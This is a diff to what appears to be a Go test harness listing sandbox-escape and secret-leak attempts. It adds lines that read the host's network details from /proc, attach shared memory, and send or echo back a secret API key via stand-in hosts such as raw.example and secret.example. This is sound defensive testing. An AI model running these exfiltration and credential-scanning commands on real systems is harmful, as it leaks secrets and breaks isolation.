@@ -71,6 +71,8 @@ func processes() []attempt {
 		{category: c, name: "pivot_root, move_mount, open_tree, fsopen, fsmount", do: []string{"sh", "$T act call 155 @. @. ; $T act call 429 -100 @. 0 @x 0; $T act call 428 -100 @/ 1; $T act call 430 @tmpfs 0; true"}, arrived: byGot, control: control{kind: bareRoot}},
 		{category: c, name: "kernel keys, userfaultfd, perf, kexec, modules, swap", do: []string{"sh", "$T act call 250 0 -3 1; $T act call 323 1; $T act call 298 @x 0 -1 -1 0; $T act call 246 0 0 0 0; $T act call 175 @x 1 @x; $T act call 167 @x 0; true"}, arrived: byGot, control: control{kind: bareRoot}},
 		{category: c, name: "clock, host name, reboot", do: []string{"sh", "(hostname owned-{c} && echo GOT name; date -s @1 && echo GOT clock) 2>/dev/null; test $(hostname) = owned-{c} && echo GOT name; true"}, arrived: byGot, control: without("as root it would set the machine's clock")},
+		{category: c, name: "the host's network, by /proc", do: []string{"sh", "cat /proc/net/dev /proc/1/net/dev /proc/net/route /proc/net/fib_trie"}, arrived: byLoot("h0:", "192.0.2.2")},
+		{category: c, name: "the host's shared memory", do: []string{"sh", "$T act call 29 {shm} 0 0"}, arrived: byGot},
 		{category: c, name: "open by handle, around the mounts", do: []string{"sh", "$T act call 303 -100 @/ @\\x80 @x 0; $T act call 304 -100 @x 0; true"}, arrived: byGot, control: without("needs a handle of the host's")},
 	}
 }
@@ -121,6 +123,10 @@ func keys() []attempt {
 		{category: c, name: "by raw TCP", do: sh(`$T act say tcp raw.example:7000 "{c} $HOSTILE_KEY"`), arrived: byReal},
 		{category: c, name: "by a websocket handshake and its frames", do: sh(`$T act saytls good.example:443 good.example '' "GET /{c} HTTP/1.1\r\nHost: good.example\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\nX-Api-Key: $HOSTILE_KEY\r\n\r\n" "$HOSTILE_KEY"`), arrived: byKey},
 		{category: c, name: "reflected by the declared host", do: sh(`$T act get GET https://secret.example/echo/{c} "X-Api-Key=$HOSTILE_KEY"`), arrived: byLoot(realValue)},
+		{category: c, name: "reflected, compressed", do: sh(`$T act get GET https://secret.example/echo-gzip/{c} "X-Api-Key=$HOSTILE_KEY" "Accept-Encoding=gzip"`), arrived: byLoot(realValue)},
+		{category: c, name: "reflected, a byte at a time", do: sh(`$T act get GET https://secret.example/echo-bytes/{c} "X-Api-Key=$HOSTILE_KEY" "Accept-Encoding=gzip"`), arrived: byLoot(realValue)},
+		{category: c, name: "reflected in a trailer", do: sh(`$T act get GET https://secret.example/echo-trailer/{c} "X-Api-Key=$HOSTILE_KEY" "Accept-Encoding=gzip"`), arrived: byLoot(realValue)},
+		{category: c, name: "reflected in a redirect", do: sh(`$T act get GET https://secret.example/echo-location/{c} "X-Api-Key=$HOSTILE_KEY" "Accept-Encoding=gzip"`), arrived: byLoot(realValue)},
 		{category: c, name: "split over two headers of one name", do: sh(`$T act saytls secret.example:443 secret.example '' "GET /echo/{c} HTTP/1.1\r\nHost: secret.example\r\nX-Api-Key: $HOSTILE_KEY\r\nX-Api-Key: $HOSTILE_KEY\r\nConnection: close\r\n\r\n"`), arrived: byLoot(realValue)},
 		{category: c, name: "TRACE to the declared host", do: sh(`$T act saytls secret.example:443 secret.example '' "TRACE /echo/{c} HTTP/1.1\r\nHost: secret.example\r\nX-Api-Key: $HOSTILE_KEY\r\nConnection: close\r\n\r\n"`), arrived: byLoot(realValue)},
 		{category: c, name: "in the names of the run's own files and arguments", do: sh("cat /proc/[0-9]*/cmdline /proc/[0-9]*/environ /proc/self/mountinfo 2>/dev/null; find / -xdev -newer /proc/self/status -type f 2>/dev/null | head -50; grep -ra " + realValue[:16] + " /run /etc/ssl /var/tmp 2>/dev/null | head"), arrived: byLoot(realValue), control: without("covered by the environment of every process")},
